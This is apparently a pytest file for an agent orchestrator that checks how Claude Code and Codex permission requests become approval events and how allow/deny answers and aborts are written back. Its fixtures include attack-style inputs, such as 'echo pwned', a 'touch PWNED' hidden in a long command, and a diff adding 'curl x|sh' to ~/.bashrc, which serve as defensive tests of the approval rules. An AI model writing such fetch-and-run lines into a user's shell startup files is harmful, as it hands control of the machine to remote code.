"""The Claude Code and Codex adapters alone, fed the frames each was measured to write (Claude Code
2.1.328's ``can_use_tool``, ``control_cancel_request`` and ``task_started``; Codex 0.169.0's approval
requests, ``item/started`` and ``serverRequest/resolved``, shaped as its generated protocol types say):
what an ``approval`` event says will run, and what each answer writes back to the agent."""

from __future__ import annotations

import json
from typing import Any

import pytest

from roost.drivers.approvals import WORDS_MAX
from roost.drivers.claude import ClaudeAdapter
from roost.drivers.codex import CodexAdapter
from roost.protocol import MAX_FRAME
from roost.worker_protocol import encode_event


class Rig:
    """An adapter bound to lists: what it emitted (events, responses) and what it wrote to the agent."""

    def __init__(self, adapter: Any) -> None:
        self.adapter = adapter
        self.emitted: list[dict[str, Any]] = []
        self.written: list[dict[str, Any]] = []
        adapter.bind(self.emitted.append, lambda data: self.wrote(data))

    def wrote(self, data: bytes) -> None:
        self.written += [json.loads(line) for line in data.splitlines() if line]

    def command(self, command: dict[str, Any]) -> None:
        self.wrote(self.adapter.encode(command))

    def frame(self, frame: dict[str, Any]) -> list[dict[str, Any]]:
        return self.adapter.decode(json.dumps(frame).encode())


# -- Claude Code ------------------------------------------------------------------------------------------
def claude_in_a_turn() -> Rig:
    rig = Rig(ClaudeAdapter(session=None, cwd="/repo"))
    rig.command({"type": "prompt", "id": 1, "run": 4, "message": "go"})
    rig.written.clear()
    return rig


def can_use_tool(request_id: str, tool: str, args: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"type": "control_request", "request_id": request_id, "request": {
        "subtype": "can_use_tool", "tool_name": tool, "display_name": tool, "input": args,
        "tool_use_id": "toolu_1", **more}}


@pytest.mark.parametrize("tool, args, what", [
    ("Bash", {"command": "echo pwned > pwned.txt", "description": "List the files"},
     {"command": "echo pwned > pwned.txt", "cwd": "/repo"}),
    ("Edit", {"file_path": "/repo/a.py", "old_string": "x = 1\n", "new_string": "x = 2\n"},
     {"path": "/repo/a.py", "diff": "--- /repo/a.py\n+++ /repo/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2"}),
    ("MultiEdit", {"file_path": "/repo/a.py", "edits": [{"old_string": "a", "new_string": "b"},
                                                        {"old_string": "c", "new_string": "d"}]},
     {"path": "/repo/a.py", "diff": "--- /repo/a.py\n+++ /repo/a.py\n@@ -1 +1 @@\n-a\n+b\n"
                                    "--- /repo/a.py\n+++ /repo/a.py\n@@ -1 +1 @@\n-c\n+d"}),
    ("Write", {"file_path": "/repo/new.txt", "content": "hello\n"}, {"path": "/repo/new.txt", "content": "hello\n"}),
    ("WebFetch", {"url": "https://example.com/x", "prompt": "read it"}, {"url": "https://example.com/x"}),
    ("NotebookEdit", {"notebook_path": "/repo/n.ipynb", "new_source": "1"},
     {"input": {"notebook_path": "/repo/n.ipynb", "new_source": "1"}}),
])
def test_a_claude_permission_request_is_an_approval_saying_what_will_run(tool, args, what) -> None:
    rig = claude_in_a_turn()
    events = rig.frame(can_use_tool("r-1", tool, args, description="the model's words"))
    assert events == [{"type": "approval", "approval": "r-1", "tool": tool, "what": what,
                       "description": "the model's words"}]
    assert rig.adapter.run == 4 and not rig.written, "the turn goes on, waiting; nothing is answered yet"


def test_claude_hears_allow_with_the_input_as_given_and_deny_with_the_reason() -> None:
    rig = claude_in_a_turn()
    args = {"command": "echo hi > f", "description": "d"}
    rig.frame(can_use_tool("r-1", "Bash", args))
    rig.frame(can_use_tool("r-2", "Bash", {"command": "rm -r x"}))
    rig.command({"type": "approval_answer", "id": 7, "approval": "r-2", "decision": "deny", "reason": "not that"})
    rig.command({"type": "approval_answer", "id": 8, "approval": "r-1", "decision": "allow", "reason": "ok"})
    assert [w["response"] for w in rig.written] == [
        {"subtype": "success", "request_id": "r-2", "response": {"behavior": "deny", "message": "not that"}},
        {"subtype": "success", "request_id": "r-1", "response": {"behavior": "allow", "updatedInput": args}}]
    assert [(e["id"], e["success"]) for e in rig.emitted if e["type"] == "response"][-2:] == [(7, True), (8, True)]
    rig.command({"type": "approval_answer", "id": 9, "approval": "r-1", "decision": "allow"})
    assert rig.emitted[-1]["success"] is False and "no permission request 'r-1'" in rig.emitted[-1]["error"]
    assert len(rig.written) == 2, "an answer twice writes nothing"


def test_roosts_own_tools_are_allowed_at_once_and_a_cancelled_request_is_withdrawn() -> None:
    rig = claude_in_a_turn()
    assert rig.frame(can_use_tool("r-1", "mcp__roost__roost_spawn", {"task": "t"})) == []
    assert rig.written[0]["response"]["response"] == {"behavior": "allow", "updatedInput": {"task": "t"}}
    rig.frame(can_use_tool("r-2", "Bash", {"command": "ls"}))
    assert rig.frame({"type": "control_cancel_request", "request_id": "r-2"}) == [
        {"type": "approval_withdrawn", "approval": "r-2"}]
    assert rig.frame({"type": "control_cancel_request", "request_id": "r-2"}) == []
    rig.command({"type": "approval_answer", "id": 3, "approval": "r-2", "decision": "allow"})
    assert rig.emitted[-1]["success"] is False and len(rig.written) == 1


def test_a_background_subagents_request_names_it_and_comes_with_no_turn_in_flight() -> None:
    rig = Rig(ClaudeAdapter(session=None, cwd="/repo"))
    rig.frame({"type": "system", "subtype": "task_started", "task_id": "a5f3", "tool_use_id": "toolu_9",
               "description": "the helper", "prompt": "p", "is_backgrounded": True})
    events = rig.frame(can_use_tool("r-1", "Bash", {"command": "ls"}, agent_id="a5f3"))
    assert events[0]["subagent"] == "toolu_9", "the id its subagent entries carry"
    assert rig.adapter.run is None, "no turn began"


def test_an_abort_denies_what_is_pending_at_claude_and_stops_its_subagents_first() -> None:
    rig = claude_in_a_turn()
    rig.frame({"type": "system", "subtype": "task_started", "task_id": "a5f3", "tool_use_id": "toolu_9",
               "description": "the helper", "prompt": "p", "is_backgrounded": True})
    rig.frame(can_use_tool("r-1", "Bash", {"command": "ls"}))
    rig.command({"type": "abort", "id": 5})
    assert [(w["type"], (w.get("response") or w.get("request"))["subtype"]) for w in rig.written] == [
        ("control_response", "success"), ("control_request", "stop_task"), ("control_request", "interrupt")]
    assert rig.written[0]["response"]["response"]["behavior"] == "deny"
    assert rig.written[1]["request"]["task_id"] == "a5f3"
    assert {"type": "approval_withdrawn", "approval": "r-1"} in rig.emitted


def test_an_abort_with_no_turn_stops_the_background_subagents_and_is_answered_at_once() -> None:
    rig = Rig(ClaudeAdapter(session=None, cwd="/repo"))
    rig.frame({"type": "system", "subtype": "task_started", "task_id": "a5f3", "tool_use_id": "toolu_9",
               "description": "the helper", "prompt": "p", "is_backgrounded": True})
    rig.command({"type": "abort", "id": 5})
    assert [w["request"] for w in rig.written] == [{"subtype": "stop_task", "task_id": "a5f3"}]
    assert rig.emitted[-1] == {"type": "response", "id": 5, "command": "abort", "success": True}
    ended = rig.frame({"type": "system", "subtype": "task_notification", "task_id": "a5f3", "tool_use_id": "toolu_9",
                       "status": "stopped", "summary": "the helper"})
    assert [(e["state"], e["text"]) for e in ended] == [("stopped", "stopped before it finished: the helper")]
    rig.written.clear()
    rig.command({"type": "abort", "id": 6})
    assert rig.written == [], "a stopped subagent is not stopped again"


def test_a_long_approval_is_carried_whole_for_the_rules_to_decide_on() -> None:
    """The adapter cuts nothing of what will run: the daemon's rules decide on the whole request and
    only what it stores and shows is cut (roost/rules/approvals.py bound_what)."""
    rig = claude_in_a_turn()
    command = "echo hi " + "x" * 5000 + "; touch PWNED; " + "y" * (2 * MAX_FRAME // 3)
    [event] = rig.frame(can_use_tool("r-1", "Bash", {"command": command}))
    assert event["what"]["command"] == command
    big = {"blob": "z" * 100_000}
    [other] = claude_in_a_turn().frame(can_use_tool("r-3", "Glob", big))
    assert other["what"]["input"] == big
    rig.command({"type": "approval_answer", "id": 2, "approval": "r-1", "decision": "allow"})
    assert rig.written[-1]["response"]["response"]["updatedInput"] == {"command": command}, "it runs as asked"

    def said(n: int) -> list[dict[str, Any]]:
        return claude_in_a_turn().frame(can_use_tool("r-4", "Bash", {"command": "ls"}, description="d" * n))

    assert said(WORDS_MAX)[0]["description"] == "d" * WORDS_MAX, "the model's words, at the bound, whole"
    longer = said(WORDS_MAX + 1)[0]["description"]
    assert longer.startswith("d" * 100) and "1 characters cut by roost" in longer


# -- Codex ---------------------------------------------------------------------------------------------------
def codex_in_a_turn() -> Rig:
    rig = Rig(CodexAdapter(thread="th-1", params={"cwd": "/repo"}))
    rig.command({"type": "prompt", "id": 1, "run": 4, "message": "go"})
    [turn_start] = rig.written
    rig.frame({"jsonrpc": "2.0", "id": turn_start["id"], "result": {"turn": {"id": "turn-1"}}})
    rig.written.clear()
    return rig


def test_a_codex_command_request_is_an_approval_with_its_command_cwd_and_reason() -> None:
    rig = codex_in_a_turn()
    events = rig.frame({"jsonrpc": "2.0", "id": 0, "method": "item/commandExecution/requestApproval", "params": {
        "threadId": "th-1", "turnId": "turn-1", "itemId": "call_1", "kind": "command", "startedAtMs": 1,
        "command": "/bin/bash -c 'echo pwned > /out/p.txt'", "cwd": "/repo/sub", "reason": "to list the files"}})
    assert events == [{"type": "approval", "approval": "0", "tool": "exec_command",
                       "what": {"command": "/bin/bash -c 'echo pwned > /out/p.txt'", "cwd": "/repo/sub"},
                       "description": "to list the files"}]
    rig.command({"type": "approval_answer", "id": 2, "approval": "0", "decision": "deny", "reason": "stay inside"})
    decision, steer = rig.written
    assert decision == {"jsonrpc": "2.0", "id": 0, "result": {"decision": "decline"}}
    assert steer["method"] == "turn/steer" and steer["params"]["expectedTurnId"] == "turn-1"
    assert "stay inside" in steer["params"]["input"][0]["text"], "a decline carries no words: the steer does"


def test_a_codex_file_change_shows_the_paths_and_diffs_its_item_carried() -> None:
    rig = codex_in_a_turn()
    rig.frame({"jsonrpc": "2.0", "method": "item/started", "params": {"threadId": "th-1", "turnId": "turn-1",
               "startedAtMs": 1, "item": {"type": "fileChange", "id": "fc-1", "status": "inProgress", "changes": [
                   {"path": "/repo/a.py", "kind": {"type": "update", "move_path": None}, "diff": "@@ -1 +1 @@\n-a\n+b\n"},
                   {"path": "/repo/new.txt", "kind": {"type": "add"}, "diff": "hello\n"}]}}})
    [event] = rig.frame({"jsonrpc": "2.0", "id": 3, "method": "item/fileChange/requestApproval", "params": {
        "threadId": "th-1", "turnId": "turn-1", "itemId": "fc-1", "startedAtMs": 1}})
    assert (event["tool"], event["what"]) == ("apply_patch", {
        "path": "/repo/a.py\n/repo/new.txt",
        "diff": "--- /repo/a.py (update)\n@@ -1 +1 @@\n-a\n+b\n--- /repo/new.txt (add)\nhello"})
    assert "description" not in event
    rig.command({"type": "approval_answer", "id": 2, "approval": "3", "decision": "allow"})
    assert rig.written == [{"jsonrpc": "2.0", "id": 3, "result": {"decision": "accept"}}]


def test_codex_resolving_a_request_withdraws_it_and_an_abort_declines_what_is_pending() -> None:
    rig = codex_in_a_turn()
    ask = {"jsonrpc": "2.0", "method": "item/commandExecution/requestApproval", "params": {
        "threadId": "th-1", "turnId": "turn-1", "itemId": "c", "kind": "command", "startedAtMs": 1, "command": "ls"}}
    rig.frame({**ask, "id": 1})
    assert rig.frame({"jsonrpc": "2.0", "method": "serverRequest/resolved",
                      "params": {"threadId": "th-1", "requestId": 1}}) == [{"type": "approval_withdrawn",
                                                                             "approval": "1"}]
    rig.frame({**ask, "id": 2})
    rig.command({"type": "abort", "id": 9})
    assert rig.written[0] == {"jsonrpc": "2.0", "id": 2, "result": {"decision": "decline"}}
    assert rig.written[1]["method"] == "turn/interrupt", "declined before the interrupt"
    assert {"type": "approval_withdrawn", "approval": "2"} in rig.emitted
    rig.command({"type": "approval_answer", "id": 10, "approval": "2", "decision": "allow"})
    assert rig.emitted[-1]["success"] is False and len(rig.written) == 2


def test_a_codex_request_still_pending_at_its_turns_end_is_withdrawn() -> None:
    rig = codex_in_a_turn()
    rig.frame({"jsonrpc": "2.0", "id": 4, "method": "item/commandExecution/requestApproval", "params": {
        "threadId": "th-1", "turnId": "turn-1", "itemId": "c", "kind": "command", "startedAtMs": 1, "command": "ls"}})
    events = rig.frame({"jsonrpc": "2.0", "method": "turn/completed",
                        "params": {"threadId": "th-1", "turn": {"id": "turn-1", "status": "completed"}}})
    assert [e["type"] for e in events] == ["approval_withdrawn", "turn_end"]
    assert events[0]["approval"] == "4" and events[1]["outcome"] == "ok"


def test_a_codex_change_of_several_paths_or_a_move_is_allowed_by_a_path_rule_only_when_every_path_matches() -> None:
    """Issue 31, item 6: a prefix rule once matched a multi-file change through its first path."""
    from roost.rules.approvals import decide, level

    def change(*changes: dict[str, Any]) -> dict[str, Any]:
        rig = codex_in_a_turn()
        rig.frame({"jsonrpc": "2.0", "method": "item/started", "params": {
            "threadId": "th-1", "turnId": "turn-1", "startedAtMs": 1,
            "item": {"type": "fileChange", "id": "fc-1", "status": "inProgress", "changes": list(changes)}}})
        [event] = rig.frame({"jsonrpc": "2.0", "id": 3, "method": "item/fileChange/requestApproval", "params": {
            "threadId": "th-1", "turnId": "turn-1", "itemId": "fc-1", "startedAtMs": 1}})
        return event["what"]

    policy = [level("ask", ["apply_patch:/repo/*"])]
    inside = {"path": "/repo/a.py", "kind": {"type": "update", "move_path": None}, "diff": "-a\n+b\n"}
    outside = {"path": "/home/u/.bashrc", "kind": {"type": "update", "move_path": None}, "diff": "+curl x|sh\n"}
    moved = {"path": "/repo/b.py", "kind": {"type": "update", "move_path": "/home/u/.bashrc"}, "diff": ""}
    assert decide(policy, [], "apply_patch", change(inside)).verdict == "allow"
    assert decide(policy, [], "apply_patch", change(inside, outside)).verdict == "ask"
    assert decide(policy, [], "apply_patch", change(moved)).verdict == "ask"
    assert "/home/u/.bashrc" in change(moved)["path"].split("\n")
